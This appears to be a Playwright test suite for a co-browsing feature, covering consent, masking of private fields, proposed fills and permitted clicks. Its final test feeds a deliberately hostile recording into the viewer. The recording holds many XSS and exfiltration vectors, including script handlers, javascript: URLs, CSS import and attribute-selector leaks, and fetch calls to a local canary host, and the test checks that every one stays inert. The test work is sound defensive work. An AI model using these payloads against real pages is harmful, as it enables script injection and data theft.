// Co-browsing: asked, answered, seen live, pointed at, ended; and a hostile recording that does nothing.
import assert from "node:assert/strict";
import { once } from "node:events";
import { createServer } from "node:http";
import { after, before, test } from "node:test";
import { beside } from "./beside.mjs";
import { House, axe, complaints, overflows } from "./house.mjs";

/** @type {House} */
let house;
before(async () => { house = await House.open(); });
after(async () => { await house?.close(); });

/** @typedef {import("playwright-core").Page} Page */

const shots = process.env.SEGUE_TEST_SHOTS;
/** @param {Page} page @param {string} name */
const shot = async (page, name) => { if (shots) await page.screenshot({ path: `${shots}/${name}.png` }); };

const { talking, over, viewer, seen, shown } = beside(() => house);

test("an account manager stands beside a person who said yes, and both may end it", async () => {
  const [desk, shop] = await talking();
  await desk.getByRole("button", { name: "Ask to see their page" }).click();
  await shop.getByText("Nora asks to see this page").waitFor();
  await desk.getByText("Asked. They can say yes or no.").waitFor();
  assert.deepEqual(await axe(shop), []);
  assert.deepEqual(await axe(desk), []);
  await shot(shop, "question");
  await shop.setViewportSize({ width: 320, height: 640 });
  assert.equal(await overflows(shop), false);
  await shot(shop, "question-320");
  await shop.setViewportSize({ width: 1366, height: 768 });

  // No means no; it may be asked again.
  await shop.getByRole("button", { name: "No", exact: true }).click();
  await desk.getByText("The page is not shown.").waitFor();
  await desk.getByRole("button", { name: "Ask to see their page" }).click();
  await shop.getByRole("button", { name: "Yes, show this page" }).click();
  await shop.getByText("Nora sees this page").waitFor();
  await seen(desk, "Here for you alone");
  assert.deepEqual(await axe(shop), []);
  assert.deepEqual(await axe(desk), []);
  await shot(desk, "desk");
  await shot(shop, "seen");
  await shop.setViewportSize({ width: 320, height: 640 });
  assert.equal(await overflows(shop), false);
  await shot(shop, "seen-320");
  await shop.setViewportSize({ width: 1366, height: 768 });

  // A full page load, and then Turbo's.
  await shop.goto(`${house.origin("shop")}/orders`);
  await seen(desk, "Your orders");
  await shop.getByRole("link", { name: "Products" }).first().click();
  await shop.waitForURL(/\/products/);
  await seen(desk, "Products");
  await shop.waitForTimeout(1500);
  await shot(desk, "desk-products");

  // What is private is not there, nor what is typed.
  await shop.goto(`${house.origin("shop")}/profile`);
  await seen(desk, "Élise");
  const field = shop.locator("main input[type=text]:not([data-private] *)").first();
  await field.fill("SENTINEL typed");
  await shop.evaluate(() => {
    document.querySelector("main")?.insertAdjacentHTML("beforeend", `<section data-private>SENTINEL private<input value="SENTINEL"></section>
      <input type="password" value="SENTINEL"><p title="SENTINEL" data-x="SENTINEL">MARKER</p>`);
  });
  await seen(desk, "MARKER");
  await shop.waitForTimeout(300);
  assert.ok(!(await shown(desk)).includes("SENTINEL"));
  const frame = await viewer(desk);
  const values = await frame.evaluate(() => [.../** @type {any} */ (document.querySelector("iframe")).contentDocument.querySelectorAll("input,textarea")].map((f) => f.value).filter(Boolean));
  assert.ok(values.length > 0 && values.every((v) => v === "•••"), values.join());

  // The other's hand.
  const box = await desk.locator(".screen iframe").boundingBox();
  assert.ok(box);
  await desk.mouse.move(box.x + box.width / 2, box.y + box.height / 2);
  await desk.mouse.move(box.x + box.width / 2 + 20, box.y + box.height / 2 + 5);
  await shop.locator(".cobrowse-pointer").waitFor({ state: "visible" });
  await desk.mouse.click(box.x + box.width / 2, box.y + 40);
  await shop.locator(".cobrowse-mark").waitFor({ state: "visible" });
  await shop.getByText("Nora points at something on this page.").waitFor({ state: "attached" });
  await shot(shop, "pointed");

  // Several tabs: the one the person is at.
  const second = await shop.context().newPage();
  await second.goto(`${house.origin("shop")}/articles`);
  await second.bringToFront();
  await seen(desk, "Answers");
  await second.close();
  await shop.bringToFront();

  // One key ends it, at once and on both sides.
  await shop.goto(`${house.origin("shop")}/orders`);
  await seen(desk, "Your orders");
  await shop.keyboard.press("Escape");
  await shop.keyboard.press("Escape");
  await shop.getByText("Nora sees this page").waitFor({ state: "detached" });
  await desk.locator(".screen").waitFor({ state: "detached" });
  await desk.getByText("The page is no longer shown.").first().waitFor();

  // The end of the dialogue ends it as well.
  await desk.getByRole("button", { name: "Ask to see their page" }).click();
  await shop.getByRole("button", { name: "Yes, show this page" }).click();
  await seen(desk, "Your orders");
  await over(desk);
  await shop.getByText("Nora sees this page").waitFor({ state: "detached" });
  // axe changes styles while it looks, and the recorder compares them in a document under the same policy.
  assert.deepEqual(complaints.filter((c) => !c.includes("Applying inline style")), []);
  await desk.context().close();
  await shop.context().close();
});

test("a change is seen within 300 ms, and a thousand rows freeze nobody's page", async () => {
  const [desk, shop] = await talking();
  await desk.getByRole("button", { name: "Ask to see their page" }).click();
  await shop.getByRole("button", { name: "Yes, show this page" }).click();
  await seen(desk, "Here for you alone");
  await shop.goto(`${house.origin("shop")}/orders`);
  const frame = await seen(desk, "Your orders");
  await shop.evaluate(() => document.querySelector("main")?.insertAdjacentHTML("beforeend", "<p id='tick'>tick</p>"));
  await seen(desk, "tick");
  await shop.waitForTimeout(1500);
  await frame.evaluate(() => {
    /** @type {any} */ (window).times = {};
    const inner = /** @type {any} */ (document.querySelector("iframe")).contentDocument;
    const look = () => {
      const text = inner.getElementById("tick")?.textContent ?? "";
      /** @type {any} */ (window).times[text] ??= Date.now();
    };
    new MutationObserver(look).observe(inner, { subtree: true, childList: true, characterData: true });
  });
  const took = [];
  for (let i = 0; i < 100; i++) {
    const at = await shop.evaluate((i) => {
      const now = Date.now();
      /** @type {any} */ (document.getElementById("tick")).textContent = `tick ${i}`;
      return now;
    }, i);
    const handle = await frame.waitForFunction((text) => /** @type {any} */ (window).times[text], `tick ${i}`, { polling: 20 });
    took.push(Number(await handle.jsonValue()) - at);
    await shop.waitForTimeout(30 + (i * 37) % 90);
  }
  took.sort((a, b) => a - b);
  console.log(`# change seen after ms: p50 ${took[49]}, p95 ${took[94]}, max ${took[99]} of ${took.length}`);
  assert.ok(took[94] < 300, `p95 ${took[94]} ms`);

  // A long list, and rows put into it one batch after the other.
  const longest = await shop.evaluate(async () => {
    /** @type {number[]} */ const tasks = [];
    new PerformanceObserver((list) => list.getEntries().forEach((e) => tasks.push(e.duration))).observe({ type: "longtask", buffered: false });
    const list = document.querySelector("main")?.appendChild(document.createElement("ol"));
    const row = (/** @type {number} */ i) => { const li = document.createElement("li"); li.innerHTML = `<b>row</b> <span>${i}</span>`; return li; };
    list?.append(...Array.from({ length: 1000 }, (_, i) => row(i)));
    await new Promise((done) => setTimeout(done, 2500));
    /** @type {number[]} */ const inserts = [];
    for (let i = 0; i < 20; i++) {
      const began = performance.now();
      list?.insertBefore(row(5000 + i), list.children[i * 3]);
      await new Promise((done) => setTimeout(done, 0));
      inserts.push(performance.now() - began);
      await new Promise((done) => setTimeout(done, 60));
    }
    inserts.sort((a, b) => a - b);
    return { task: Math.round(Math.max(0, ...tasks)), insert: Math.round(inserts[19]) };
  });
  console.log(`# a thousand rows: longest task ${longest.task} ms, slowest insert into them ${longest.insert} ms`);
  await seen(desk, "5019");
  assert.ok(longest.insert < 50, `an insert took ${longest.insert} ms`);

  // The account manager ends it.
  await desk.locator(".screen").getByRole("button", { name: "End" }).click();
  await shop.getByText("Nora sees this page").waitFor({ state: "detached" });
  await over(desk);
  await desk.context().close();
  await shop.context().close();
});

test("what is proposed is filled in by the person, and clicks go where they were allowed", async () => {
  const [desk, shop] = await talking();
  await desk.getByRole("button", { name: "Ask to see their page" }).click();
  await shop.getByLabel("Also show what I type in ordinary fields").check();
  await shop.getByLabel("Nora may also click for me").check();
  await shop.getByRole("button", { name: "Yes, show this page" }).click();
  await shop.getByText("Nora sees this page").waitFor();
  await shop.goto(`${house.origin("shop")}/orders`);
  const frame = await seen(desk, "Your orders");
  await shop.evaluate(() => document.querySelector("main")?.insertAdjacentHTML("afterbegin",
    `<p data-share="label"><label for="town">Town</label><input id="town"></p><p><label for="pin">PIN</label><input id="pin" type="password"></p>
     <p><button type="button" id="plain">Plain</button></p><p data-private><button type="button" id="hidden">Hidden</button></p>`));
  await shop.evaluate(() => document.addEventListener("click", (e) => { const id = /** @type {Element} */ (e.target).id; if (id) document.title = `clicked ${id}`; }));
  await seen(desk, "Plain");

  /** Uses the chosen tool on what has this id. @param {string} id */
  const use = async (id) => {
    const outer = await desk.locator(".screen iframe").boundingBox();
    const at = await frame.evaluate((id) => {
      const inner = /** @type {any} */ (document.querySelector("iframe"));
      const cover = /** @type {any} */ (document.querySelector(".cover")).getBoundingClientRect();
      const box = inner.contentDocument.getElementById(id).getBoundingClientRect();
      const scale = cover.width / Number(inner.width);
      return { x: cover.x + (box.x + box.width / 2) * scale, y: cover.y + (box.y + box.height / 2) * scale };
    }, id);
    assert.ok(outer);
    await desk.mouse.click(outer.x + at.x, outer.y + at.y);
  };

  await desk.locator(".screen").getByLabel("Propose a text").check();
  await use("town");
  await desk.getByLabel("Text for this field").fill("Győr");
  await desk.locator(".screen").getByRole("button", { name: "Propose" }).click();
  await shop.getByText("Nora proposes to fill in Town:").waitFor();
  assert.equal(await shop.locator("#town").inputValue(), "", "nothing before the person says so");
  assert.deepEqual(await axe(shop), []);
  await shot(shop, "proposed");
  await shop.getByRole("button", { name: "Fill it in" }).click();
  assert.equal(await shop.locator("#town").inputValue(), "Győr");
  // It is a sharable field, and they agreed: it is seen.
  await frame.waitForFunction(() => /** @type {any} */ (document.querySelector("iframe")).contentDocument.getElementById("town").value === "Győr");
  await shop.locator("#pin").fill("1234");
  await use("pin");
  await desk.getByText("That is no field for text.").waitFor();

  await desk.locator(".screen").getByLabel("Click", { exact: true }).check();
  await use("plain");
  await shop.waitForFunction(() => document.title === "clicked plain");
  await shop.getByText("Nora clicked for you.").waitFor({ state: "attached" });
  assert.equal(await frame.evaluate(() => /** @type {any} */ (document.querySelector("iframe")).contentDocument.getElementById("hidden")), null);
  assert.match(await frame.evaluate(() => /** @type {any} */ (document.querySelector("iframe")).contentDocument.getElementById("pin").value), /^(•••)?$/);
  await over(desk);
  await desk.context().close();
  await shop.context().close();
});

test("a hostile recording executes nothing and calls nobody", async () => {
  /** @type {string[]} */ const calls = [];
  const canary = createServer((req, res) => { calls.push(req.url ?? ""); res.setHeader("Access-Control-Allow-Origin", "*"); res.end("x"); }).listen(0, "127.0.0.1");
  canary.on("connection", () => calls.push("connection"));
  await once(canary, "listening");
  const evil = `http://127.0.0.1:${/** @type {import("node:net").AddressInfo} */ (canary.address()).port}`;
  const answer = await fetch(`http://127.0.0.1:${house.port}/viewer`);
  assert.equal(answer.status, 200);
  const policy = answer.headers.get("content-security-policy") ?? "";
  assert.match(policy, /default-src 'none'.*connect-src 'none'; frame-src 'none'; base-uri 'none'; form-action 'none'; frame-ancestors http/);
  assert.doesNotMatch(policy, /script-src[^;]*('self'|unsafe|\*)/);

  // As it is; past the cleaner, so that policy and frame hold alone; and as the control past both, which must call.
  for (const kept of ["all", "policy", "nothing"]) {
    const framed = await (await (await house.browser()).newContext({ bypassCSP: kept === "nothing" })).newPage();
    if (kept !== "all") {
      await framed.route("**/cobrowse_clean.js", (route) => route.fulfill({
        contentType: "text/javascript",
        body: "export class Cleaner { event(e) { return e; } }",
      }));
    }
    /** @type {string[]} */ const dialogs = [];
    framed.on("dialog", (d) => { dialogs.push(d.message()); d.dismiss(); });
    // A document of the desk's origin without a policy of its own.
    await framed.goto(`${house.origin("desk")}/healthz`);
    const shown = await framed.evaluate(async ({ origin, events }) => {
      const frame = document.createElement("iframe");
      frame.setAttribute("sandbox", "allow-scripts allow-same-origin");
      frame.width = "900";
      frame.height = "600";
      document.body.append(frame);
      const ready = new Promise((done) => addEventListener("message", (e) => e.data === "ready" && done(true)));
      frame.src = `${origin}/viewer`;
      await ready;
      const { port1, port2 } = new MessageChannel();
      const shown = new Promise((done) => { port1.onmessage = (e) => e.data.kind === "shown" && done(true); });
      frame.contentWindow?.postMessage("line", origin, [port2]);
      port1.postMessage({ kind: "part", run: "r", n: 0, of: 1, at: 0, text: JSON.stringify(events) });
      return Promise.race([shown, new Promise((done) => setTimeout(() => done(false), 5000))]);
    }, { origin: house.origin("viewer"), events: hostile(evil) });
    assert.equal(shown, true, "the recording is shown");
    await framed.waitForTimeout(1500);
    const viewer = framed.frames().find((f) => f.url().endsWith("/viewer"));
    const state = await viewer?.evaluate(() => {
      const inner = /** @type {HTMLIFrameElement} */ (document.querySelector("iframe"));
      const w = /** @type {any} */ (inner.contentWindow);
      return { text: inner.contentDocument?.body.textContent, sandbox: inner.getAttribute("sandbox"), done: w.done ?? null, own: /** @type {any} */ (window).done ?? null };
    });
    assert.match(state?.text ?? "", /still here/);
    // Without scripts it stays, whatever else is taken away.
    assert.deepEqual([state?.sandbox, state?.done, state?.own, dialogs], ["allow-same-origin", null, null, []]);
    if (kept === "nothing") assert.ok(calls.includes("/img"), "the canary hears");
    // No policy keeps a browser from opening a connection ahead; the cleaner leaves it no address.
    else assert.deepEqual(calls.filter((c) => kept === "all" || c !== "connection"), [], `kept: ${kept}`);
    calls.length = 0;
    await framed.context().close();
  }
  canary.closeAllConnections();
  canary.close();
});

/** Everything at once. @param {string} evil */
function hostile(evil) {
  let id = 1;
  const el = (/** @type {string} */ tagName, /** @type {any} */ attributes = {}, /** @type {any[]} */ childNodes = [], /** @type {any} */ more = {}) =>
    ({ type: 2, id: ++id, tagName, attributes, childNodes, ...more });
  const text = (/** @type {string} */ textContent, more = {}) => ({ type: 3, id: ++id, textContent, ...more });
  const svg = { isSVG: true };
  const script = "top.done=window.done=1;alert(1);parent.done=1;fetch('" + evil + "/fetch')";
  const node = { type: 0, id: 1, childNodes: [
    { type: 1, id: ++id, name: "html", publicId: "", systemId: "" },
    el("html", {}, [
      el("head", {}, [
        el("base", { href: `${evil}/` }), el("meta", { "http-equiv": "refresh", content: `0;url=${evil}/refresh` }),
        el("link", { rel: "stylesheet", href: `${evil}/sheet` }), el("link", { rel: "preload", as: "image", href: `${evil}/preload` }),
        el("link", { rel: "icon", href: `${evil}/icon` }), el("link", { rel: "prefetch", href: `${evil}/prefetch` }), el("link", { rel: "modulepreload", href: `${evil}/module` }),
        el("style", { _cssText: `@import url(${evil}/import); body{background:url(${evil}/css)} b{background:image-set("${evil}/set" 1x)} @font-face{font-family:x;src:url(${evil}/font)} *{font-family:x} input[value^="s"]{background:url(${evil}/leak)}` }),
        el("script", { src: `${evil}/script` }), el("script", {}, [text(script)]),
      ]),
      el("body", { onload: script, background: `${evil}/background`, style: `background:url(${evil}/style)` }, [
        el("p", { onmouseover: script }, [text("still here")]),
        el("img", { src: `${evil}/img`, srcset: `${evil}/srcset 2x`, onerror: script }), el("img", { src: "x", onerror: script }),
        el("picture", {}, [el("source", { srcset: `${evil}/source` }), el("img", { src: `${evil}/picture` })]),
        el("input", { value: "secret", autofocus: "", onfocus: script }), el("input", { type: "image", src: `${evil}/input` }),
        el("a", { href: "javascript:" + script, ping: `${evil}/ping` }, [text("link")]),
        el("iframe", { src: "javascript:" + script }), el("iframe", { srcdoc: `<script>${script}</script>` }), el("iframe", { src: `${evil}/frame` }),
        el("object", { data: `${evil}/object` }), el("embed", { src: `${evil}/embed` }), el("video", { src: `${evil}/video`, poster: `${evil}/poster`, autoplay: "" }), el("audio", { src: `${evil}/audio`, autoplay: "" }),
        el("form", { action: `${evil}/form`, id: "f" }, [el("button", { formaction: `${evil}/formaction`, autofocus: "" })]),
        el("svg", { onload: script }, [
          el("script", {}, [text(script)], svg), el("image", { href: `${evil}/svg`, "xlink:href": `${evil}/xlink` }, [], svg),
          el("use", { href: `${evil}/use#x` }, [], svg), el("animate", { attributeName: "href", values: "javascript:" + script, onbegin: script }, [], svg),
          el("foreignObject", {}, [el("body", { onload: script }, [el("img", { src: `${evil}/foreign` })])], svg),
          el("rect", { fill: `url(${evil}/fill#x)`, filter: `url(${evil}/filter#x)` }, [], svg),
        ], svg),
        el("canvas", { rr_dataURL: `${evil}/canvas` }), el("x-evil", { onclick: script }, [], { isCustom: true }),
        el("div", { rr_src: `${evil}/rr` }, [text("end")]),
      ]),
    ]),
  ] };
  const add = (/** @type {any} */ node) => ({ type: 3, timestamp: 3, data: { source: 0, attributes: [], texts: [], removes: [], adds: [{ parentId: 1e6, nextId: null, node }] } });
  return [
    { type: 4, timestamp: 1, data: { href: `${evil}/`, width: 800, height: 600 } },
    { type: 2, timestamp: 2, data: { node, initialOffset: { left: 0, top: 0 } } },
    { type: 3, timestamp: 3, data: { source: 9, id: 5, type: 0, commands: [{ property: "constructor.constructor", args: [script] }] } },
    { type: 3, timestamp: 3, data: { source: 10, family: "x", fontSource: `url(${evil}/face)`, buffer: false } },
    { type: 3, timestamp: 3, data: { source: 8, id: 10, adds: [{ rule: `@import url(${evil}/rule)`, index: 0 }] } },
    add(el("script", {}, [text(script)])),
  ];
}
